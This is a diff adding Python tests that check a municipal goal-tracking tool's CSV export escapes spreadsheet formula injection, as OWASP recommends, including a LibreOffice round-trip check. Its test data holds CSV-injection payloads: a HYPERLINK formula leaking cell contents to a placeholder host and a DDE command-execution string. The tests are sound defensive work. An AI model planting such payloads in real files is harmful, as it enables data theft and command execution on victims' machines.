@@ -8,6 +8,7 @@ import csv
 import importlib.util
 import io
 import subprocess
+import sys
 from pathlib import Path
 
 import openpyxl
@@ -124,3 +125,95 @@ def test_exempelby_examples_are_made_byte_for_byte_by_their_script(tmp_path):
     assert len(written) >= 5
     for path in written:
         assert path.read_bytes() == (EXEMPELBY / path.name).read_bytes(), path.name
+
+
+# --- CSV injection (OWASP): the kommun's words never become formulas ---------------------------
+
+HOSTILE_TEXTS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
+                 "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3", "@SUM(1;2)"]
+
+
+def _hostile_workbook(folder: Path) -> Path:
+    sys.path.insert(0, str(ROOT / "tests" / "corpus"))
+    import make_corpus
+
+    goals = [{"KF ÖG mål": "Ekonomi i balans", "KS mål": f"mål {n}", "Målvärde": "-2,2",
+              "Regel": "Högre är bättre", "Utfall Delår 1 2025": "-2,2",
+              "Utfall Delår 2 2025": -3}
+             for n in range(len(HOSTILE_TEXTS))]
+    path = make_corpus.build_valid_workbook(folder / "fientlig.xlsx", goals=goals)
+    book = openpyxl.load_workbook(path)
+    # Text cells (not formulas) that begin like formulas, as a kommun's own file can hold.
+    cells = [(book["Inställningar"]["B2"], "=1+1 kommun")]  # Kommun: goes into every row
+    cells += [(cell, HOSTILE_TEXTS[int(cell.value[4:])]) for row in book["Mål"].iter_rows()
+              for cell in row if isinstance(cell.value, str) and cell.value.startswith("mål ")]
+    for cell, text in cells:
+        cell.value = text
+        cell.data_type = "s"
+    book.save(path)
+    return path
+
+
+@pytest.fixture(scope="module")
+def hostile_csv(tmp_path_factory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile")
+    done = run_cli("export", _hostile_workbook(folder), "--csv", folder / "mal.csv")
+    assert done.returncode == 0, done.stderr
+    return folder / "mal.csv"
+
+
+def test_csv_text_that_starts_a_formula_gets_an_apostrophe_and_quotes(hostile_csv):
+    data = hostile_csv.read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=";"))
+    col = {name: COLUMNS.index(name) for name in COLUMNS}
+    goals = {row[col["KS mål"]] for row in rows[1:]}
+    assert goals == {"'" + text for text in HOSTILE_TEXTS}
+    assert {row[col["kommun"]] for row in rows[1:]} == {"'=1+1 kommun"}
+    for text in HOSTILE_TEXTS:  # quoted as well, as OWASP recommends
+        assert '"' + "'" + text.replace('"', '""') + '"' in data
+    outcomes = {row[col["utfall"]] for row in rows[1:]}
+    assert outcomes <= {"-0,022", "-2,2", "-3", ""} and "-3" in outcomes  # numbers unescaped
+    assert not [f for row in rows[1:] for f in row if f[:1] in ("=", "+", "@", "\t", "\r")]
+
+
+@pytest.mark.parametrize("text, field", [
+    ("\tSUMMA", '"\'\tSUMMA"'), ("\r=1+1", '"\'\r=1+1"'), ("=A1", '"\'=A1"'),
+    ('=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'), ("-2,2", "-2,2"), ("-850 tkr", "-850 tkr"),
+    ("-", '"\'-"'), ("Ja", "Ja"), ("a;b", '"a;b"')])
+def test_write_csv_escapes_exactly_the_cells_a_spreadsheet_would_evaluate(tmp_path, text,
+                                                                          field):
+    """Texts the reader would clean (a leading tab or carriage return) can still reach the
+    writer through the library; a Swedish number in a text column stays a number."""
+    import pandas as pd
+
+    from vp_excel.writers.export import write_csv
+
+    path = tmp_path / "ut.csv"
+    write_csv(pd.DataFrame({"KS mål": [text], "utfall": [-2.5]}), path)
+    assert path.read_bytes().decode("utf-8-sig") == f"KS mål;utfall\r\n{field};-2,5\r\n"
+
+
+def _libreoffice_cells(csv_path: Path, tmp_path: Path) -> list:
+    """The CSV opened by LibreOffice with formula evaluation on (the most trusting import),
+    as cells with their data type."""
+    options = SWEDISH_CSV + ",false,true,false,false,false,0,true"  # token 13: evaluate
+    subprocess.run([find_soffice(), f"-env:UserInstallation={(tmp_path / 'p').as_uri()}",
+                    "--headless", "--norestore", f"--infilter={options}", "--convert-to",
+                    "xlsx", "--outdir", str(tmp_path), str(csv_path)],
+                   capture_output=True, timeout=300, check=True)
+    sheet = openpyxl.load_workbook(tmp_path / (csv_path.stem + ".xlsx")).active
+    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+@pytest.mark.skipif(find_soffice() is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_finds_no_formula_in_the_csv_and_numbers_stay_numbers(hostile_csv,
+                                                                          tmp_path):
+    control = tmp_path / "kontroll.csv"
+    control.write_text("a;b\r\n=1+2;-2,2\r\n", encoding="utf-8-sig")
+    assert any(c.data_type == "f" for c in _libreoffice_cells(control, tmp_path)), \
+        "the import options do not evaluate formulas: the test would prove nothing"
+    cells = _libreoffice_cells(hostile_csv, tmp_path)
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert -3 in [c.value for c in cells if c.data_type == "n"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert "'+SUM(1;2)" in texts
